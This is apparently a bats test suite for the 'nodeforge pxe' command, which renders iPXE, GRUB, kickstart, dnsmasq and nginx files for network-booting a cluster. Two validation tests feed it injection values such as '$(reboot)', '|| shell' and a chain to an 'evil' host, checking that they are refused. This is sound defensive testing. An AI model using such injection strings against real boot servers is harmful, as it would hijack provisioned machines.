#!/usr/bin/env bats
# nodeforge pxe: the static boot tree.
load helper

pxe() {
	nf -C "$FIXTURES/boot/profiles" pxe -i racks.yaml -o tree \
		-u http://10.0.0.1:8080 --images "$FIXTURES/boot/out" \
		--kickstart "$NF_SRCDIR/kickstart" --network 10.0.0.0/16 \
		--kernel-args "compute=quiet hugepages=64" \
		--kernel-args controller=quiet --kernel-args login=quiet \
		--ipxe-dir no-ipxe "$@"
}

setup() {
	nf_setup
	cp "$NF_SRCDIR/examples/racks.yaml" .
}

@test "renders per-MAC iPXE and GRUB, kickstarts, dnsmasq and nginx configs" {
	run pxe
	status_is 0
	[[ "$output" == *"tree: 6 nodes, 21 files (21 written, 0 unchanged, 0 removed), 12 image files placed"* ]]
	for f in ipxe/boot.ipxe ipxe/unknown.ipxe ipxe/mac/52-54-00-00-01-04.ipxe \
		grub/grub.cfg grub/grub.cfg-01-52-54-00-00-00-01 kickstart/compute.ks \
		dnsmasq.conf nginx.conf nodes.json; do
		[ -f "tree/$f" ] || { echo "missing $f"; false; }
	done
	k=$(python3 -c 'import json;print(json.load(open("'"$FIXTURES"'/boot/out/compute/compute.current"))["kernel"])')
	grep -qx "kernel http://10.0.0.1:8080/images/compute/$k initrd=compute-[0-9a-f]*.initramfs.cpio.zst quiet hugepages=64 nodeforge.server=http://10.0.0.1:8080 nodeforge.node=gpu-04 systemd.hostname=gpu-04" tree/ipxe/mac/52-54-00-00-01-04.ipxe
	cmp tree/images/compute/$k "$FIXTURES/boot/out/compute/$k"
	grep -q 'chain --autofree http://10.0.0.1:8080/ipxe/mac/${netX/mac:hexhyp}.ipxe' tree/ipxe/boot.ipxe
	grep -q '/api/v1/unknown/${netX/mac:hexhyp}' tree/ipxe/unknown.ipxe
	grep -q "linux /images/controller/controller-.*.vmlinuz quiet nodeforge.server=http://10.0.0.1:8080 nodeforge.node=ctl-01 systemd.hostname=ctl-01" tree/grub/grub.cfg-01-52-54-00-00-00-01
	grep -qx "dhcp-host=52:54:00:00:01:03,10.0.1.13,gpu-03,infinite" tree/dnsmasq.conf
	# liveimg names the tar.xz the build published for Anaconda, with its own sha256
	live=$(python3 -c 'import json;c=json.load(open("'"$FIXTURES"'/boot/out/compute/compute.current"));print(c["liveimg"], c["liveimg_sha256"])')
	grep -qx "liveimg --url=http://10.0.0.1:8080/images/compute/${live% *} --checksum=${live#* }" tree/kickstart/compute.ks
	cmp "tree/images/compute/${live% *}" "$FIXTURES/boot/out/compute/${live% *}"
	grep -q 'bootloader --location=mbr --append="quiet hugepages=64 nodeforge.server=http://10.0.0.1:8080"' tree/kickstart/compute.ks
	grep -q "systemctl enable nodeforge-verify.service" tree/kickstart/compute.ks
	python3 -c 'import json; d=json.load(open("tree/nodes.json")); assert len(d["nodes"]) == 6 and d["roles"]["compute"]["kernel_args"] == "quiet hugepages=64"'
	! find tree -name '.*tmp*' | grep -q .
}

@test "re-render rewrites only what changed and prunes removed nodes" {
	pxe
	run pxe --json
	status_is 0
	echo "$output" | python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["written"] == 0 and d["unchanged"] == 21, d'
	touch -d @1000000000 tree/ipxe/mac/*.ipxe tree/grub/*
	sed -i 's/ip: 10.0.0.3$/ip: 10.0.0.9/' racks.yaml
	run pxe --json
	status_is 0
	# login-01's iPXE script names its IP; dnsmasq.conf and nodes.json too
	echo "$output" | python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["written"] == 3, d'
	[ "$(stat -c %Y tree/ipxe/mac/52-54-00-00-00-02.ipxe)" != 1000000000 ]
	[ "$(stat -c %Y tree/ipxe/mac/52-54-00-00-00-01.ipxe)" = 1000000000 ]
	[ "$(stat -c %Y tree/grub/grub.cfg-01-52-54-00-00-00-02)" = 1000000000 ]
	grep -q "10.0.0.9,login-01" tree/dnsmasq.conf
	# drop gpu-04: its files go
	sed -i 's/gpu-\[01-04\]/gpu-[01-03]/; s/10.1.1.13, 10.1.1.14/10.1.1.13/' racks.yaml
	run pxe --json
	status_is 0
	echo "$output" | python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["removed"] == 2, d'
	[ ! -e tree/ipxe/mac/52-54-00-00-01-04.ipxe ]
	[ ! -e tree/grub/grub.cfg-01-52-54-00-00-01-04 ]
}

@test "images are copies with one link (serve refuses linked files); a linked one is replaced" {
	cp -r "$FIXTURES/boot/out" out
	pxe_out() { nf -C "$FIXTURES/boot/profiles" pxe -i racks.yaml -o tree \
		-u http://10.0.0.1:8080 --images out --network 10.0.0.0/16 \
		--ipxe-dir no-ipxe; }
	run pxe_out
	status_is 0
	[ -z "$(find tree/images -type f -links +1)" ]
	[ -z "$(find tree/images -type f ! -perm -0444)" ]
	k=$(python3 -c 'import json;print(json.load(open("out/compute/compute.current"))["kernel"])')
	rm "tree/images/compute/$k"
	ln "out/compute/$k" "tree/images/compute/$k"
	run pxe_out
	status_is 0
	[ "$(stat -c %h "tree/images/compute/$k")" = 1 ]
	cmp "tree/images/compute/$k" "out/compute/$k"
}

@test "a tree rendered under umask 077 is still world-readable (serve refuses private files)" {
	local old
	old=$(umask)
	umask 077
	run pxe
	umask "$old"
	status_is 0
	[ -n "$(find tree -type f)" ]
	[ -z "$(find tree -type f ! -perm -0444)" ] || { find tree -type f ! -perm -0444 -ls; false; }
}

@test "dnsmasq --test accepts dnsmasq.conf" {
	command -v dnsmasq >/dev/null || skip "dnsmasq not installed"
	pxe
	run dnsmasq --test -C tree/dnsmasq.conf
	status_is 0
	[[ "$output" == *"syntax check OK"* ]]
}

@test "nginx -t accepts nginx.conf" {
	command -v nginx >/dev/null || [ -x /usr/sbin/nginx ] || skip "nginx not installed"
	pxe --api-upstream http://127.0.0.1:8081
	grep -q "proxy_pass http://127.0.0.1:8081;" tree/nginx.conf
	grep -q "proxy_set_header X-Real-IP \$remote_addr;" tree/nginx.conf
	run /usr/sbin/nginx -t -c "$PWD/tree/nginx.conf"
	status_is 0
	[[ "$output" == *"test is successful"* ]]
}

# The real validator: pykickstart's ksvalidator, the pinned copy in the
# workspace's shared tools beside the checkout (NF_KSVALIDATOR names
# another).  Where the workspace has its shared/ folder the test never
# skips: a missing validator fails it, saying where it looked.  Only a
# checkout with no shared/ beside it (a bare clone elsewhere) skips.
ksvalidator_path() {
	local k
	for k in "${NF_KSVALIDATOR:-}" "$NF_SRCDIR/../shared/tools/ksvalidator" \
		"$(command -v ksvalidator 2>/dev/null)"; do
		[ -n "$k" ] && [ -x "$k" ] && { echo "$k"; return 0; }
	done
	echo "no ksvalidator: set NF_KSVALIDATOR, or provide $NF_SRCDIR/../shared/tools/ksvalidator" >&2
	return 1
}

ksvalidator_or_skip() {
	if ! K=$(ksvalidator_path); then
		[ -d "$NF_SRCDIR/../shared" ] || skip "no workspace shared/ beside this checkout (NF_KSVALIDATOR unset)"
		return 1
	fi
}

@test "every rendered kickstart passes the real ksvalidator for RHEL 9" {
	local n=0 K
	ksvalidator_or_skip
	pxe
	for ks in tree/kickstart/*.ks; do
		run "$K" -v RHEL9 "$ks"
		echo "$ks: $output"
		status_is 0
		n=$((n + 1))
	done
	[ "$n" -ge 3 ]
}

@test "the real ksvalidator refuses a kickstart with a command RHEL 9 removed" {
	local K
	ksvalidator_or_skip
	pxe
	ks=$(ls tree/kickstart/*.ks | head -n 1)
	{ cat "$ks"; echo "install"; } > bad.ks
	run "$K" -v RHEL9 bad.ks
	[ "$status" -ne 0 ]
	[[ "$output" == *install* ]]
}

@test "a site kickstart template with an unknown variable fails at its line; nothing is rendered" {
	mkdir ks
	printf '# role {{role}}\n%%post\necho ${HOME} \\{{kept}}\n%%end\nurl {{rootfs_link}}\n' > ks/default.ks.tmpl
	run pxe --kickstart ks
	status_is 1
	[[ "$output" == *"ks/default.ks.tmpl:5: unknown template variable '{{rootfs_link}}' (known: {{role}}, {{cluster}}"* ]]
	[ ! -e tree/kickstart ]
	sed -i 's/{{rootfs_link}}/{{rootfs_url}}/' ks/default.ks.tmpl
	run pxe --kickstart ks
	status_is 0
	grep -qx 'echo ${HOME} {{kept}}' tree/kickstart/compute.ks
	grep -qx '# role compute' tree/kickstart/compute.ks
}

@test "a role without a built image fails naming the pointer file" {
	mkdir -p out/compute
	run nf -C "$FIXTURES/boot/profiles" pxe -i racks.yaml -o tree -u http://10.0.0.1:8080 \
		--images out --network 10.0.0.0/16 --kernel-args controller=quiet \
		--kernel-args login=quiet --kernel-args compute=quiet
	status_is 1
	[[ "$output" == *"no image for role 'controller': cannot read 'out/controller/controller.current'"* ]]
	[ ! -e tree/ipxe/boot.ipxe ]
}

@test "unsafe kernel arguments, URLs and networks are refused" {
	run pxe --kernel-args 'compute=quiet $(reboot)'
	status_is 1
	[[ "$output" == *"kernel arguments of role 'compute' contain"* ]]
	run nf -C "$FIXTURES/boot/profiles" pxe -i racks.yaml -o tree -u 'http://x/;chain' \
		--images "$FIXTURES/boot/out" --network 10.0.0.0/16 --kernel-args compute=q \
		--kernel-args controller=q --kernel-args login=q
	status_is 1
	[[ "$output" == *"invalid server URL 'http://x/;chain'"* ]]
	run pxe --network 10.0.1.0/24
	status_is 1
	[[ "$output" == *"IP 10.0.0.2 of node 'ctl-01' is outside the provisioning network 10.0.1.0/24"* ]]
	[ ! -e tree/dnsmasq.conf ]
}

@test "iPXE operators and metacharacters in kernel arguments are refused, nothing written" {
	for args in 'quiet || shell' 'quiet && chain http://evil/x' 'quiet | x' \
		'quiet & x' 'quiet <x' 'quiet >x' $'quiet\tx'; do
		run pxe --kernel-args "compute=$args"
		status_is 1
		[[ "$output" == *"kernel arguments of role 'compute' contain"*"which iPXE, GRUB or a shell would interpret"* ]] ||
			{ echo "args '$args': $output" >&2; return 1; }
		[ ! -e tree/ipxe/boot.ipxe ]
	done
	run pxe --kernel-args 'compute=quiet || shell'
	[[ "$output" == *"contain '|'"* ]]
	run pxe --kernel-args $'compute=quiet\x1b[2J'
	[[ "$output" == *"contain a control character"*"quiet\x1b[2J'"* ]]
}

@test "missing --out is a usage error" {
	run nf pxe -u http://x
	status_is 2
	[[ "$output" == *"missing '--out DIR'"* ]]
}

@test "kernel arguments and server URL come from the resolved profile and the site" {
	run nf pxe -o tree --images "$FIXTURES/boot/out"
	status_is 0
	url=$(sed -n 's/^  url: //p' "$NF_SRCDIR/profiles/site.yaml")
	line=$(grep '^kernel ' tree/ipxe/mac/52-54-00-00-01-01.ipxe)
	[[ "$line" == *" cgroup_memory=1 "* ]]
	[[ "$line" == *" systemd.unified_cgroup_hierarchy=1 "* ]]
	[[ "$line" == *" nodeforge.server=$url nodeforge.node=gpu-01 systemd.hostname=gpu-01" ]]
	# a Debian site: Anaconda has nothing to install, no kickstarts by default
	[ ! -e tree/kickstart ]
}

@test "iPXE binaries for plain PXE firmware are copied into tftp/ when present" {
	mkdir ipxe
	echo bios > ipxe/undionly.kpxe
	echo efi > ipxe/ipxe.efi
	run pxe --ipxe-dir ipxe
	status_is 0
	cmp tree/tftp/undionly.kpxe ipxe/undionly.kpxe
	cmp tree/tftp/ipxe.efi ipxe/ipxe.efi
	grep -q "dhcp-boot=tag:bios,tag:!ipxe,undionly.kpxe" tree/dnsmasq.conf
	grep -q "tftp-root=$PWD/tree/tftp" tree/dnsmasq.conf
	run pxe --ipxe-dir nonexistent --json
	status_is 0
	echo "$output" | python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["written"] == 0, d'
}

@test "a boot file dnsmasq.conf names and the tree lacks is a warning naming the remedy; --strict refuses and writes nothing" {
	run pxe
	status_is 0
	[[ "$output" == *"nodeforge pxe: warning: dnsmasq.conf names tftp/undionly.kpxe for BIOS PXE clients, but 'tree' has none: install Debian's ipxe package"* ]]
	[[ "$output" == *"warning: dnsmasq.conf names tftp/ipxe.efi for UEFI PXE clients"* ]]
	[[ "$output" == *"warning: dnsmasq.conf names grub/grubx64.efi for UEFI HTTP boot clients"*"grub-efi-amd64-signed"* ]]
	run pxe --json
	echo "$output" | jq -e '.missing == ["tftp/undionly.kpxe","tftp/ipxe.efi","grub/grubx64.efi"]' >/dev/null
	# the site provides them: no warning
	mkdir ipxe && echo bios > ipxe/undionly.kpxe && echo efi > ipxe/ipxe.efi
	echo grub > tree/grub/grubx64.efi
	run pxe --ipxe-dir ipxe --strict
	status_is 0
	[[ "$output" != *warning* ]]
	# --strict: an error, and a new tree is not written at all
	run pxe -o tree2 --strict
	status_is 1
	[[ "$output" == *"dnsmasq.conf names tftp/undionly.kpxe for BIOS PXE clients, but the tree has none (--strict)"*"nothing written"* ]]
	[ -z "$(find tree2 -type f 2>/dev/null)" ]
}

@test "the example site's server URL is never used silently: pxe and status say where it comes from" {
	unset NODEFORGE_SITE NODEFORGE_PROFILES
	run nf pxe -o tree -i racks.yaml --images "$FIXTURES/boot/out" --ipxe-dir none
	status_is 0
	[[ "$output" == *"nodeforge pxe: note: the boot server URL written into every boot script (http://10.0.0.2:8080) comes from the example site '"*"/profiles/site.yaml'"*"pass --site FILE or set NODEFORGE_SITE"* ]]
	run nf status --timeout 1 --server http://127.0.0.1:1
	[[ "$output" != *"note:"* ]]
	run nf status --timeout 1
	[[ "$output" == *"nodeforge status: note: the server asked (http://10.0.0.2:8080) comes from the example site"* ]]
	# a site of one's own: no note
	sed 's,url: http://10.0.0.2:8080,url: http://10.0.0.1:8080,' "$NF_SRCDIR/profiles/site.yaml" > mysite.yaml
	run nf --site mysite.yaml pxe -o tree -i racks.yaml --images "$FIXTURES/boot/out" --ipxe-dir none
	status_is 0
	[[ "$output" != *"note:"* ]]
	grep -q 'nodeforge.server=http://10.0.0.1:8080' tree/ipxe/mac/52-54-00-00-01-01.ipxe
}
